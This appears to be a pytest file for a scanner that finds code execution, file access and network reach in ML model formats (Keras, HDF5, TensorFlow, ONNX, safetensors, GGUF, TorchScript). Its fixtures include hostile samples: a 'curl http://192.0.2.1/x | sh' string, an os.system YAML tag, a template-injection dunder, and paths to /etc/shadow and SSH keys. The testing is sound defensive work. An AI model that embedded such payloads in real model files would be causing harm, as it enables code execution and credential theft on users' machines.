"""Model formats: what in them acts, and that what does not is not told."""

from __future__ import annotations

import json
from typing import Any

import h5py
import pytest

from tests.facts.scanners.looking import ELF, keras_model, kinds, layer, look, seen, zipped
from tests.formats import seeds_core, seeds_graphs
from tests.formats.wire import entry, message

BYTECODE = {"class_name": "__lambda__", "config": {"code": "4wAAAAA=", "defaults": None, "closure": None}}
NAMED = {"module": "builtins", "class_name": "function", "config": "relu", "registered_name": "function"}


def archive_of(config: str) -> bytes:
    return zipped({"metadata.json": "{}", "config.json": config, "model.weights.h5": seeds_core.hdf5()})


def hdf5_of(config: str, **attributes: str) -> bytes:
    def fill(file: h5py.File) -> None:
        file.attrs["model_config"] = config
        file.attrs["keras_version"] = "2.9.0"
        for key, value in attributes.items():
            file.attrs[key] = value

    return seeds_core.hdf5(fill=fill)


@pytest.mark.parametrize(
    "config",
    [
        keras_model(layer("Lambda", function=BYTECODE)),
        keras_model(layer("TimeDistributed", layer=layer("Lambda", function=BYTECODE))),
        keras_model(layer("Functional", layers=[layer("Dense"), layer("Lambda", function=BYTECODE)])),
        keras_model(layer("Dense", activation=BYTECODE)),
        keras_model(layer("Dense"), compile_config={"loss": BYTECODE}),
        keras_model({"class_name": "Lambda", "config": {"function": ["4wAA", None, None], "function_type": "lambda"}}),
        keras_model(layer("Lambda")).replace('"Lambda"', '"\\u004cambda"'),
        keras_model(layer("keras>Lambda")),
    ],
)
def test_keras_bytecode_is_found_wherever_it_stands(config: str) -> None:
    for path, data in (("a.keras", archive_of(config)), ("a.h5", hdf5_of(config)), ("model.json", config.encode())):
        found = look(path, data)
        assert "keras.lambda" in kinds(found), path
        assert found.incomplete == "", path


def test_keras_bytecode_in_the_training_configuration() -> None:
    found = look("a.h5", hdf5_of(keras_model(layer("Dense")), training_config=json.dumps({"loss": BYTECODE})))
    assert "keras.lambda __lambda__" in seen(found)


def test_keras_metadata_of_a_saved_model() -> None:
    node = message(
        (2, 5), (3, "root.layer"), (4, "_tf_keras_layer"), (5, json.dumps(layer("Lambda", function=BYTECODE)))
    )
    assert "keras.lambda" in kinds(look("keras_metadata.pb", message((1, node))))


@pytest.mark.parametrize(
    ("inner", "expected"),
    [
        (layer("Popen", "subprocess", args=["true"]), "keras.foreign subprocess.Popen"),
        ({"module": "os", "class_name": "function", "config": "system"}, "keras.foreign os.system"),
        ({"module": "builtins", "class_name": "function", "config": "eval"}, "keras.name eval"),
        ({"module": "keras.utils", "class_name": "function", "config": "get_file"}, "keras.gadget get_file"),
        ({"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"},
         "keras.gadget enable_unsafe_deserialization"),
        (layer("TorchModuleWrapper"), "keras.gadget TorchModuleWrapper"),
        (layer("StringLookup", vocabulary="/etc/passwd"), "keras.file /etc/passwd"),
        (layer("TFOpLambda", function="io.write_file"), "keras.gadget io.write_file"),
        ({**layer("Mine", "mine.layers"), "registered_name": "mine>Mine"}, "keras.custom mine>Mine"),
        ({"module": "keras.saving", "class_name": "function", "config": "mystery"}, "keras.function keras.saving.mystery"),
    ],
)  # fmt: skip
def test_keras_reaches_beyond_its_layers(inner: dict[str, Any], expected: str) -> None:
    assert expected in seen(look("a.keras", archive_of(keras_model(layer("Dense"), inner))))


@pytest.mark.parametrize(
    "inner",
    [
        layer("Dense", activation=NAMED, kernel_initializer=layer("GlorotUniform", "keras.initializers")),
        layer("StringLookup", vocabulary=["a", "b"]),
        layer("TFOpLambda", function="math.add"),
        {"module": "keras.activations", "class_name": "function", "config": "gelu"},
        {"class_name": "__tuple__", "items": [1, 2]},
        layer("Dense", "tf_keras.src.layers"),
    ],
)
def test_plain_keras_is_silent(inner: dict[str, Any]) -> None:
    assert kinds(look("a.keras", archive_of(keras_model(inner)))) <= {"keras.name"}


def test_hdf5_that_reads_other_files() -> None:
    def outside(file: h5py.File) -> None:
        file.create_dataset("x", shape=(10,), dtype="u1", external=[("/etc/hostname", 0, 10)])
        file["y"] = h5py.ExternalLink("../other.h5", "/data")
        file["z"] = h5py.ExternalLink("beside.h5", "/data")

    found = seen(look("a.h5", seeds_core.hdf5(fill=outside)))
    assert {
        "external.outside /etc/hostname",
        "external.outside ../other.h5",
        "external.beside beside.h5",
    } <= found.keys()


def test_hdf5_virtual_datasets_read_other_files() -> None:
    def virtual(file: h5py.File) -> None:
        layout = h5py.VirtualLayout(shape=(4,), dtype="u1")
        layout[:] = h5py.VirtualSource("other.h5", "x", shape=(4,))
        file.create_virtual_dataset("v", layout)

    assert "external.beside" in kinds(look("a.h5", seeds_core.hdf5("latest", fill=virtual)))


def graph(*nodes: bytes, function: str = "") -> bytes:
    if function:
        return seeds_graphs.saved_model(seeds_graphs.tf_graph(functions=[(function, list(nodes))]))
    return seeds_graphs.saved_model(seeds_graphs.tf_graph(*nodes))


def text_const(name: str, text: str) -> bytes:
    tensor = message((1, 7), (8, text))
    return message((1, name), (2, "Const"), (5, entry("value", message((8, tensor)))))


def node(name: str, operator: str, *inputs: str) -> bytes:
    return message((1, name), (2, operator), (3, list(inputs)))


@pytest.mark.parametrize(
    ("operator", "kind"),
    [
        ("PyFunc", "python"), ("EagerPyFunc", "python"), ("PyFuncStateless", "python"), ("ReadFile", "file"),
        ("WriteFile", "file"), ("MatchingFiles", "file"), ("DistributedSave", "file"), ("IO>KafkaReader", "file"),
        ("RpcCall", "network"), ("DataServiceDatasetV4", "network"), ("TFRecordDataset", "reader"),
        ("LoadDataset", "reader"), ("MergeV2Checkpoints", "reader"), ("Nonesuch", "custom"), ("XlaCustomCallV2", "custom"),
    ],
)  # fmt: skip
def test_operators_that_reach_beyond_the_graph(operator: str, kind: str) -> None:
    for data in (graph(node("x", operator)), graph(node("x", operator), function="__inference_1")):
        assert f"tensorflow.{kind} {operator}" in seen(look("saved_model.pb", data))


def test_operators_that_compute_are_silent() -> None:
    nodes = [node("a", "MatMul"), node("b", "VarHandleOp"), node("c", "StatefulPartitionedCall"), node("d", "Print")]
    assert look("saved_model.pb", graph(*nodes)).observations == ()


def test_constant_arguments_are_shown() -> None:
    nodes = [text_const("part", "/etc"), text_const("rest", "/cron.d"), node("name", "StringJoin", "part", "rest")]
    nodes.append(node("w", "WriteFile", "name", "data"))
    assert (
        "WriteFile('/etc/cron.d', …)" in seen(look("saved_model.pb", graph(*nodes)))["tensorflow.file WriteFile"].text
    )


@pytest.mark.parametrize(
    ("name", "is_told"),
    [("model", False), ("model_temp_0a/part", False), ("", False), ("/etc/cron.d/x", True), ("../x", True),
     ("model/../../x", True), ("gs://bucket/x", True), ("other", True), ("~/.ssh/x", True)],
)  # fmt: skip
@pytest.mark.parametrize("operator", ["SaveV2", "RestoreV2"])
def test_saving_to_a_constant_place(operator: str, name: str, is_told: bool) -> None:
    nodes = [text_const("where", name), node("save", operator, "where", "names", "slices")]
    assert ("tensorflow.file" in kinds(look("saved_model.pb", graph(*nodes)))) is is_told


def test_saving_where_the_caller_says_is_normal() -> None:
    nodes = [
        text_const("suffix", "_temp/part"),
        node("name", "StringJoin", "file_prefix", "suffix"),
        node("save", "SaveV2", "name", "names"),
        node("merge", "MergeV2Checkpoints", "parts", "file_prefix"),
    ]
    assert look("saved_model.pb", graph(*nodes, function="traced_save")).observations == ()


def test_two_nodes_of_one_name_do_not_hide_each_other() -> None:
    assert "tensorflow.file WriteFile" in seen(look("a.pb", graph(node("x", "WriteFile"), node("x", "MatMul"))))


def test_onnx_operators_and_data() -> None:
    nodes = [
        seeds_graphs.onnx_node("PyOp", domain="ai.onnx.contrib"),
        seeds_graphs.onnx_node("Attention", domain="com.microsoft"),
        seeds_graphs.onnx_node("Gelu", domain="local"),
        seeds_graphs.onnx_node("Evil", domain="evil"),
    ]
    tensors = [
        seeds_graphs.onnx_external("a", [1], location="../../root/.ssh/id_rsa"),
        seeds_graphs.onnx_external("b", [1], location="..\\windows\\win.ini"),
        seeds_graphs.onnx_external("c", [1], location="http://192.0.2.1/w.bin"),
        seeds_graphs.onnx_external("d", [1], location="weights.bin", offset="99999"),
    ]
    function = message((1, "Gelu"), (7, seeds_graphs.onnx_node("Erf", "x")), (10, "local"))
    data = seeds_graphs.onnx_model(nodes, tensors, (25, function))
    found = seen(look("model.onnx", data, {"weights.bin": bytes(4)}))
    assert set(found) == {
        "onnx.python ai.onnx.contrib::PyOp",
        "onnx.custom com.microsoft::Attention",
        "onnx.custom evil::Evil",
        "external.outside ../../root/.ssh/id_rsa",
        "external.outside ..\\windows\\win.ini",
        "external.address http://192.0.2.1/w.bin",
        "external.range d",
    }


def test_onnx_external_data_in_a_subgraph() -> None:
    inner = message((5, [seeds_graphs.onnx_external("w", [1], location="/etc/shadow")]))
    branch = message((1, "then_branch"), (6, inner), (20, 5))
    data = seeds_graphs.onnx_model([seeds_graphs.onnx_node("If", "c", attributes=[branch])], [])
    assert "external.outside /etc/shadow" in seen(look("model.onnx", data))


def test_coreml_custom_layers() -> None:
    custom = message((1, "layer"), (500, message((10, "EvilLayer"))))
    found = look("model.mlmodel", seeds_graphs.coreml(500, message((1, custom))))
    assert "coreml.custom EvilLayer" in seen(found)


def test_safetensors_holes() -> None:
    header = {"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}

    def with_data(data: bytes, **more: Any) -> bytes:
        return seeds_core.with_header(json.dumps(header | more).encode(), data)

    assert kinds(look("m.safetensors", with_data(b"abcd"))) == set()
    assert kinds(look("m.safetensors", with_data(b"abcd" + bytes(8)))) == {"safetensors.padding"}
    assert "safetensors.trailing" in kinds(look("m.safetensors", with_data(b"abcd" + b"\x9a" * 9)))
    assert "executable.hidden elf" in seen(look("m.safetensors", with_data(b"abcd" + b"\x9a" * 9 + ELF)))
    second = {"b": {"dtype": "U8", "shape": [4], "data_offsets": [24, 28]}}
    assert "safetensors.hole" in kinds(look("m.safetensors", with_data(b"\x9a" * 28, **second)))


def test_an_archive_behind_the_tensors_is_opened() -> None:
    inner = zipped({"a.yaml": "a: !!python/object/apply:os.system [echo inert]"})
    found = look("m.safetensors", seeds_core.small_safetensors() + inner)
    assert {"safetensors.trailing", "yaml.object-apply"} <= kinds(found)


def test_safetensors_metadata_and_duplicates() -> None:
    meta = seeds_core.safetensors({}, {"note": "run curl http://192.0.2.1/x | sh", "format": "pt"})
    assert kinds(look("m.safetensors", meta)) == {"metadata.script"}
    twice = b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
    assert "safetensors.header" in kinds(look("m.safetensors", seeds_core.with_header(twice, b"x")))


def test_gguf_templates() -> None:
    def model(key: str) -> bytes:
        raw = seeds_core.text("{{ ''.__class__ }}")
        return seeds_core.gguf([seeds_core.pair(key, 8, raw)], [])

    for key in ("tokenizer.chat_template", "tokenizer.chat_template.tool_use", "adapter.chat_template"):
        assert "template.dunder __class__" in seen(look("m.gguf", model(key)))
    assert look("m.gguf", model("general.description")).observations == ()


def test_torchscript_operators() -> None:
    def archive(code: str) -> bytes:
        return zipped({"m/data.pkl": b"\x80\x02N.", "m/constants.pkl": b"\x80\x02).", "m/code/__torch__/net.py": code})

    acting = "def forward(self, x):\n  _0 = torch.from_file('/etc/passwd')\n  ops.aten.save('/tmp/x', x)\n  return x\n"
    found = seen(look("m.pt", archive(acting)))
    assert {"torchscript.file torch.from_file", "torchscript.file ops.aten.save"} <= found.keys()
    computing = "def forward(self, x):\n  return torch.add(torch.relu(x), ops.prim.NumToTensor(3))\n"
    assert look("m.pt", archive(computing)).observations == ()


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"ptrt" + bytes(60), "TensorRT engine"),
        (b"RDX3\nX\n" + bytes(60), "R workspace"),
        (b"\4\0\0\0\1\0\0\0\3\0\0\0V 1" + bytes(60), "Torch7 object"),
        (b"\xa7\r\r\n" + bytes(60), "Python bytecode"),
    ],
)
def test_formats_that_cannot_be_proven_safe(data: bytes, kind: str) -> None:
    assert f"opaque.format {kind}" in seen(look("model.dat", data))
